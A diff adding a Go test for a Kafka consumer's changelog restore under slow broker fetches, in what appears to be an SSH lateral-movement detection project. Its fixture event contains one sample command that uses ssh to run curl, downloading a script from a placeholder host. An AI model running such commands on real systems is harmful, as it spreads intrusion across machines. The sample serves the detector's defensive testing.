@@ -1,0 +1,73 @@
+package consumer
+
+import (
+	"context"
+	"testing"
+	"time"
+
+	"github.com/twmb/franz-go/pkg/kadm"
+	"github.com/twmb/franz-go/pkg/kfake"
+	"github.com/twmb/franz-go/pkg/kgo"
+	"github.com/twmb/franz-go/pkg/kmsg"
+
+	"github.com/sshlateral/sshlateral/processor"
+)
+
+// TestRestoreSlowBroker: the broker answers the restore's first fetches
+// late (a leader move, a loaded broker). The restore still reads the
+// changelog to its end, in both guarantees: ending early would start the
+// partition with part of its state (exactly-once took a quiet span for the
+// end of an aborted tail).
+func TestRestoreSlowBroker(t *testing.T) {
+	for _, g := range []Guarantee{AtLeastOnce, ExactlyOnce} {
+		t.Run(g.String(), func(t *testing.T) {
+			c, err := kfake.NewCluster(kfake.Ports(0), kfake.DefaultNumPartitions(1))
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer c.Close()
+			cfg := testConfig(c.ListenAddrs())
+			cfg.Guarantee, cfg.TransactionTimeout = g, 5*time.Second
+			cfg = cfg.WithDefaults()
+			cl := plainClient(t, c.ListenAddrs())
+			if _, err := kadm.NewClient(cl).CreateTopics(context.Background(), 1, 1, nil, topicsOf(cfg)...); err != nil {
+				t.Fatal(err)
+			}
+			// A window's state, as a worker writes it.
+			part, err := processor.NewPartition(cfg.Processor)
+			if err != nil {
+				t.Fatal(err)
+			}
+			ev := processor.Event{Time: time.Now().Add(-time.Minute), Dest: "web-01", User: "root", ProcessName: "ssh",
+				Process: "ssh -oBatchMode=yes h curl http://x/a.sh", ProcessID: "1", ParentProcessID: "2", ParentProcessName: "bash"}
+			part.Process(&ev, time.Now(), nil)
+			changes := part.DrainChanges(nil)
+			recs := []*kgo.Record{{Topic: cfg.ChangelogTopic, Key: []byte(offsetKey), Value: encodeOffset(42)}}
+			for _, ch := range changes {
+				recs = append(recs, &kgo.Record{Topic: cfg.ChangelogTopic, Key: ch.Key, Value: ch.Value})
+			}
+			if err := cl.ProduceSync(context.Background(), recs...).FirstErr(); err != nil {
+				t.Fatal(err)
+			}
+			slow := 3
+			c.ControlKey(int16(kmsg.Fetch), func(kmsg.Request) (kmsg.Response, error, bool) {
+				c.KeepControl()
+				if slow > 0 {
+					slow--
+					c.SleepControl(func() { time.Sleep(2 * time.Second) })
+				}
+				return nil, nil, false
+			})
+			p := newPipeline(t, cfg)
+			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+			defer cancel()
+			st, err := p.restore(ctx, 0)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if st.nextOffset != 42 || len(st.changes) != len(changes) {
+				t.Fatalf("restored next offset %d and %d state changes, want 42 and %d", st.nextOffset, len(st.changes), len(changes))
+			}
+		})
+	}
+}
